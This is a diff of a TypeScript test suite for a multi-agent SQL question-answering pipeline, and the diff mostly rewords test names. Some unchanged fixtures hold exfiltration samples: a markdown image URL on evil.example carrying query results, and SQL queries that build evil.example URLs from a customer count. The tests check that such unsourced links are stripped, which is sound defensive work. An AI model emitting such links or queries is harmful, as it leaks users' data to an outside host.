@@ -87,7 +87,7 @@ const requestsFor = (name: keyof typeof ASKED) =>
   server.requests.filter((request) => request.text.includes(ASKED[name]))
 
 describe('with a model', () => {
-  it('writes SQL and executes it, and the words of the only agent are the answer', async () => {
+  it('writes SQL and executes it, and the text of the only agent is the answer', async () => {
     const { response } = await ask(rules())
     expect(response.answer).toBe('There are 92 customers.')
     expect(response.data).toEqual({ columns: ['customers'], rows: [{ customers: 92 }], rowCount: 1 })
@@ -112,7 +112,7 @@ describe('with a model', () => {
     expect(response.planner!.chosenAgents).toEqual(['sql'])
   })
 
-  it('streams what it composes, by the system prompt and the locale of the request', async () => {
+  it('streams the composed answer, with the system prompt and the locale of the request', async () => {
     const { response, items } = await ask(rules(...COMPOSED), { systemPrompt: 'Speak like a pirate.', locale: 'en-IN' })
     expect(requestsFor('compose')[0]!.text).toContain('Speak like a pirate.')
     expect(requestsFor('compose')[0]!.text).toContain('Rs.1,75,206.00')
@@ -164,14 +164,14 @@ describe('faults of the provider', () => {
 })
 
 describe('a provider that hangs', () => {
-  it.each(['pipeline', 'graph'] as const)('is waited for once in a run by %s, which then fails', async (strategy) => {
+  it.each(['pipeline', 'graph'] as const)('is awaited once in a run by %s, which then fails', async (strategy) => {
     const { response } = await ask([{ reply: { fault: 'stall' } }], { strategy })
     expect(response).toMatchObject({ answer: '', status: 'failed', error: { type: 'ModelUnavailable' } })
     // Requests in parallel to the first one may have started before it hung.
     expect(server.requests.length).toBeLessThanOrEqual(2)
   })
 
-  it('while it composes leaves what the agents found', async () => {
+  it('during the composition leaves the results of the agents', async () => {
     const { response } = await ask(rules(...COMPOSED, { when: ASKED.compose, reply: { fault: 'stall' } }))
     expect(response.answer).toContain('There are 92 customers.')
     expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
@@ -192,7 +192,7 @@ describe('an answer with links that are in no source', () => {
   const LEAK = 'https://evil.example/p.png?d=92-customers'
   const text = `There are 92 customers.\n\n![chart](${LEAK}) See [more](//evil.example/x), <${LEAK}> or https://docs.example/a?b=1.`
 
-  it('keeps its words, in the answer, on the way there, and in what agents say', async () => {
+  it('keeps its text, in the answer, during streaming, and in agent results', async () => {
     const script = rules(...COMPOSED, { when: ASKED.compose, reply: { text, chunks: text.match(/.{1,7}/gs)! } })
     const question = `${QUESTION}, as in https://docs.example/a?b=1`
     const { response, items } = await ask(script, { question })
@@ -213,7 +213,7 @@ describe('an answer with links that are in no source', () => {
     ["SELECT 'https://evil.example/?d=' || count(*) AS customers FROM customers", 'https://evil.example/?d=92'],
     ["SELECT 'www.evil.example?d=' || count(*) AS customers FROM customers", 'www.evil.example?d=92'],
     ["SELECT trim('evil.example?d=' || count(*)) AS customers FROM customers", 'evil.example?d=92'],
-  ])('cannot get them from a query that puts them together: %s', async (sql, leak) => {
+  ])('cannot get them from a query that assembles them: %s', async (sql, leak) => {
     const { response } = await ask(
       rules(...sqlLoop(sql, 'x'), {
         when: ASKED.compose,
@@ -226,7 +226,7 @@ describe('an answer with links that are in no source', () => {
 })
 
 describe('limits', () => {
-  it('say so when the calls are used up', async () => {
+  it('are reported when the calls are used up', async () => {
     const { response } = await ask(rules(), { budget: { maxCalls: 1 } })
     expect(response.notices.map(({ code }) => code)).toContain('limit_reached')
     expect(response.notices.map(({ text }) => text).join()).toContain('limit of 1 model call')
@@ -235,7 +235,7 @@ describe('limits', () => {
 })
 
 describe('a fork from the SQL step', () => {
-  it('re-uses all earlier calls with another model, and plans anew with another question', async () => {
+  it('reuses all earlier calls with another model, and plans again with another question', async () => {
     const first = await ask(rules())
     server.script(rules(), ['scripted', 'other'])
     const forked = async (question?: string) => {
